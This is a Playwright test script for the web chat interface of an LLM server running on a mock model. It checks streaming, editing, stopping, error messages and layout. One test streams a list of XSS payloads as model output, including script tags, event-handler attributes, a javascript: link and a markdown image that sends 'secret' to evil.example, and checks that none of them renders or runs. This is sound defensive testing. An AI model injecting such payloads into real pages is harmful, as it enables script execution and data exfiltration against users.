// Drives the web page of a server with mocks in Chromium: the actions of a user, and the attacks of a hostile model.
//
//   node page.mjs FOLDER-OF-NODE_MODULES CHROMIUM URL KEY
import { strict as assert } from "node:assert";
import { createRequire } from "node:module";
import { join } from "node:path";

const [folder, executablePath, url, key] = process.argv.slice(2);
const { chromium } = createRequire(join(folder, "x.js"))("playwright-core");
const browser = await chromium.launch({ executablePath, args: ["--no-sandbox", "--disable-gpu"] });
const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
const page = await context.newPage();
page.setDefaultTimeout(10_000);

const troubles = [];
page.on("pageerror", (error) => troubles.push(`page: ${error.message}`));
page.on("dialog", (dialog) => { troubles.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
page.on("console", (line) => { if (/Content Security|TrustedHTML/.test(line.text())) troubles.push(line.text()); });
page.on("request", (request) => { if (!request.url().startsWith(url)) troubles.push(`asked ${request.url()}`); });

// The mock ends after about 60 tokens unless a request ignores the end token.
let goOn = false;
await page.route("**/v1/chat/completions", (route) => {
  const body = route.request().postDataJSON();
  return route.continue({ postData: JSON.stringify(goOn ? { ...body, ignore_eos: true } : body) });
});

let checks = 0;
async function check(name, run) {
  try {
    await run();
    assert.deepEqual(troubles, []);
    checks += 1;
  } catch (error) {
    console.error(`${name}: ${error.stack}`);
    await browser.close();
    process.exit(1);
  }
}

const message = page.locator("#message");
const answers = page.locator(".message.assistant");
const last = answers.last();
const settled = () => page.locator("#send:visible").waitFor();
const text = (locator) => locator.locator(".text").innerText();
async function ask(words) {
  await message.fill(words);
  await message.press("Enter");
}
async function set(name, value) {
  if (!(await page.locator("#settings").isVisible())) await page.locator("#open-settings").click();
  await page.locator(`#set-${name}`).fill(value);
}
/** What follows of the next request's body. */
const nextBody = () => page.waitForRequest("**/v1/chat/completions").then((r) => r.postDataJSON());

await check("asks for the key, and says when it is wrong", async () => {
  await page.goto(url);
  await page.locator("#key-dialog").waitFor();
  await page.locator("#key").fill("wrong");
  await page.locator("#key").press("Enter");
  await page.getByText("does not accept this key").waitFor();
  await page.locator("#key").fill(key);
  await page.locator("#key").press("Enter");
  await page.locator("#backend", { hasText: "mock" }).waitFor();
  assert.equal(await page.evaluate(() => JSON.stringify(localStorage).includes("test-key")), false);
});

await check("sends, streams and says how fast", async () => {
  assert.equal(await page.locator("#model").inputValue(), "mock");
  await set("max_tokens", "300");
  await set("seed", "7");
  goOn = true;
  const body = nextBody();
  await ask("Tell me of the wind");
  const lengths = [];
  for (let i = 0; i < 60 && !(await page.locator("#send").isVisible()); i++) {
    lengths.push((await text(last)).length);
    await page.waitForTimeout(30);
  }
  await settled();
  const asked = await body;
  assert.deepEqual([asked.max_tokens, asked.seed, asked.stream], [300, 7, true]);
  assert.ok(new Set(lengths).size > 2, `it grew in steps: ${lengths}`);
  assert.match(await last.locator(".stats").innerText(), /300 tokens · [\d.,]+ tokens\/s · first after [\d.]+ m?s/);
  assert.match(await page.locator("#live-context").innerText(), /^\d+ \/ [\d,]+$/);
  assert.match(await page.locator("#live-speed").innerText(), /tok\/s/);
});

await check("a reload keeps conversations and settings", async () => {
  const before = await text(last);
  assert.ok(before.length > 40);
  await page.reload();
  await page.locator("#backend", { hasText: "mock" }).waitFor();
  assert.equal((await text(last)).trim(), before.trim());
  await page.locator("#open-settings").click();
  assert.equal(await page.locator("#set-seed").inputValue(), "7");
  assert.match(await page.locator("#conversations .current").innerText(), /Tell me of the wind/);
});

await check("answers again: the same seed gives the same, another something else", async () => {
  await set("max_tokens", "30");
  await last.getByRole("button", { name: "Answer again" }).click();
  await settled();
  const before = await text(last);
  const again = last.getByRole("button", { name: "Answer again" });
  await again.click();
  await settled();
  assert.equal((await text(last)).trim(), before.trim());
  await set("seed", "8");
  await again.click();
  await settled();
  assert.notEqual((await text(last)).trim(), before.trim());
  assert.equal(await answers.count(), 1);
});

await check("an edit replaces what came after it", async () => {
  await ask("And of the sea");
  await settled();
  assert.equal(await answers.count(), 2);
  const first = page.locator(".message.user").first();
  await first.hover();
  await first.getByRole("button", { name: "Edit" }).click();
  const body = nextBody();
  await first.getByRole("textbox").fill("Tell me of the hills");
  await first.getByRole("textbox").press("Enter");
  await settled();
  assert.deepEqual((await body).messages, [{ role: "user", content: "Tell me of the hills" }]);
  assert.equal(await answers.count(), 1);
});

await check("the system prompt goes along, with what was said", async () => {
  await set("system", "Be brief.");
  const body = nextBody();
  await ask("More");
  await settled();
  const roles = (await body).messages.map((m) => m.role);
  assert.deepEqual(roles, ["system", "user", "assistant", "user"]);
  await set("system", "");
});

await check("stops at Escape and at the button, and keeps what came", async () => {
  for (const stop of [() => page.keyboard.press("Escape"), () => page.locator("#stop").click()]) {
    await set("max_tokens", "7000");
    await ask("Go on and on");
    await page.waitForFunction(() => document.querySelector(".growing .text")?.innerText.length > 20);
    await stop();
    await settled();
    assert.match(await last.locator(".stats").innerText(), /stopped/);
    assert.ok((await text(last)).length > 20);
  }
  const running = async () => (await (await context.request.get(`${url}/metrics`, { headers: { authorization: `Bearer ${key}` } })).text())
    .match(/zonda_sequences_running\{[^}]*\} (\d+)/)[1];
  for (let i = 0; i < 50 && (await running()) !== "0"; i++) await page.waitForTimeout(20);
  assert.equal(await running(), "0");
});

await check("what the server refuses is said, and can be tried again", async () => {
  await set("max_tokens", "5");
  await set("temperature", "-3");
  await ask("Too cold");
  await last.getByRole("alert").waitFor();
  assert.match(await last.getByRole("alert").innerText(), /temperature/i);
  await set("temperature", "");
  await last.getByRole("button", { name: "Try again" }).click();
  await settled();
  assert.equal(await last.getByRole("alert").count(), 0);
  assert.match(await last.locator(".stats").innerText(), /5 tokens/);
});

await check("a server that is gone, or an answer that breaks off, is said", async () => {
  await page.route("**/v1/chat/completions", (route) => route.abort());
  await ask("Anyone there?");
  await last.getByRole("alert", { name: "" }).filter({ hasText: "can't be reached" }).waitFor();
  await page.unroute("**/v1/chat/completions");
  const half = `data: ${JSON.stringify({ choices: [{ delta: { content: "Half of" } }] })}\n\n`;
  await page.route("**/v1/chat/completions", (route) => route.fulfill({ contentType: "text/event-stream", body: half }));
  await last.getByRole("button", { name: "Try again" }).click();
  await last.getByRole("alert").filter({ hasText: "before it was complete" }).waitFor();
  await last.locator(".text", { hasText: /^Half of$/ }).waitFor();
  await settled();
  await page.unroute("**/v1/chat/completions");
});

const HOSTILE = [
  "<script>window.hit = 1; alert(1)</script>",
  "<img src=x onerror=\"window.hit = 1\">",
  "![tell](https://evil.example/?q=secret)",
  "[click](javascript:window.hit=1)",
  "<svg onload=\"window.hit=1\"><style>body{display:none}</style>",
  "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
  "```html\"onmouseover=\"window.hit=1\n<script>window.hit = 1</script>\n```",
  "| a |\n|---|\n| <img src=x onerror=window.hit=1> |",
  "<div id=composer class=\"veil\" style=\"position:fixed;inset:0\">over it all</div>",
];

await check("what a model writes never becomes markup or script", async () => {
  const events = HOSTILE.map((line) => `data: ${JSON.stringify({ choices: [{ delta: { content: `${line}\n\n` } }] })}\n\n`);
  await page.route("**/v1/chat/completions", (route) =>
    route.fulfill({ contentType: "text/event-stream", body: `${events.join("")}data: [DONE]\n\n` }));
  await ask("<b>I</b> <script>window.hit=1</script>");
  await settled();
  await last.locator("table").waitFor();
  assert.equal(await page.locator(".message.user .text").last().innerText(), "<b>I</b> <script>window.hit=1</script>");
  const found = await last.locator(".text").evaluate((node) => ({
    text: node.innerText,
    bad: node.querySelectorAll("script, img, iframe, style, form, input, object, [style], [id], .veil, [onerror], [onmouseover]").length,
    links: [...node.querySelectorAll("a")].map((a) => [a.href, a.rel, a.target]),
  }));
  assert.equal(found.bad, 0);
  assert.ok(found.text.includes("<script>window.hit = 1; alert(1)</script>"), found.text);
  assert.deepEqual(found.links.filter(([href]) => href), [["https://evil.example/?q=secret", "noopener noreferrer nofollow", "_blank"]]);
  await page.reload();
  await last.locator("table").waitFor();
  assert.equal(await page.evaluate(() => window.hit), undefined);
  await page.unroute("**/v1/chat/completions");
});

await check("conversations are renamed, deleted, brought back", async () => {
  await page.getByRole("button", { name: "New conversation" }).click();
  await page.locator("#welcome").waitFor();
  await ask("Second");
  await settled();
  const items = page.locator("#conversations li");
  assert.equal(await items.count(), 2);
  await items.first().hover();
  await items.first().getByRole("button", { name: "Rename" }).click();
  await page.keyboard.type("Renamed");
  await page.keyboard.press("Enter");
  await items.first().getByText("Renamed").waitFor();
  await items.first().hover();
  await items.first().getByRole("button", { name: "Delete" }).click();
  await page.waitForFunction(() => document.querySelectorAll("#conversations li").length === 1);
  await page.getByRole("button", { name: "Undo" }).click();
  await items.first().getByText("Renamed").waitFor();
  await page.reload();
  await items.first().getByText("Renamed").waitFor();
  assert.equal(await items.count(), 2);
});

await check("a model that several backends run asks for the one that is chosen", async () => {
  const entry = (root, backend, id = root) => ({ id, root, backend, zonda: { backend, weights: "", context: 512 } });
  const data = [entry("mock", "mock"), entry("big", "native"), entry("big", "llama-cpp", "big@llama-cpp")];
  await page.route("**/v1/models", (route) => route.fulfill({ json: { object: "list", data } }));
  await page.reload();
  await page.locator("#backend", { hasText: "mock" }).waitFor();
  assert.equal(await page.locator("#backend-choice").isVisible(), false);
  await page.locator("#model").selectOption("big");
  await page.locator("#backend-choice").selectOption({ label: "llama-cpp" });
  const done = `data: ${JSON.stringify({ choices: [{ delta: { content: "Yes" } }] })}\n\ndata: [DONE]\n\n`;
  await page.route("**/v1/chat/completions", (route) => route.fulfill({ contentType: "text/event-stream", body: done }));
  const body = nextBody();
  await ask("Which of them are you?");
  assert.equal((await body).model, "big@llama-cpp");
  await settled();
  await page.reload();
  await page.locator("#backend-choice:visible").waitFor();
  assert.equal(await page.locator("#backend-choice").inputValue(), "big@llama-cpp");
  await page.unroute("**/v1/models");
  await page.unroute("**/v1/chat/completions");
  await page.reload();
  await page.locator("#backend", { hasText: "mock" }).waitFor();
});

await check("metrics move, and a report that is not there is said", async () => {
  await page.getByRole("link", { name: "Bench & metrics" }).click();
  await page.locator(".tiles dd", { hasText: /^\d/ }).first().waitFor();
  assert.equal(await page.locator(".plot").count(), 6);
  await page.waitForFunction(() => document.querySelectorAll(".plot .line[d^=M]").length >= 3);
  assert.match(await page.locator("#report").innerText(), /zonda bench/);
  await page.getByRole("link", { name: "Chat", exact: true }).click();
  await page.locator("#monitor").waitFor({ state: "hidden" });
});

await check("themes take turns and stay", async () => {
  const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const seen = new Set();
  for (let i = 0; i < 2; i++) {
    await page.locator("#theme").click();
    seen.add(await ground());
  }
  assert.equal(seen.size, 2);
  const now = await ground();
  await page.reload();
  assert.equal(await ground(), now);
});

await check("a phone has room for it, and its panels open and close", async () => {
  await page.setViewportSize({ width: 390, height: 780 });
  for (const hash of ["#chat", "#monitor"]) {
    await page.goto(`${url}/${hash}`);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(wide <= 390, `${hash} is ${wide} wide`);
  }
  await page.goto(`${url}/#chat`);
  await page.locator("#menu").click();
  await page.locator("#conversations .open", { hasText: "Renamed" }).click();
  await page.waitForFunction(() => getComputedStyle(document.getElementById("sidebar")).visibility === "hidden");
  await page.locator("#open-settings").click();
  await page.locator("#set-system").waitFor();
  await page.keyboard.press("Escape");
  assert.equal(await page.locator("#settings").isVisible(), false);
  await ask("From a phone");
  await settled();
  assert.match(await last.locator(".stats").innerText(), /tokens/);
});

await browser.close();
console.log(`${checks} checks passed`);
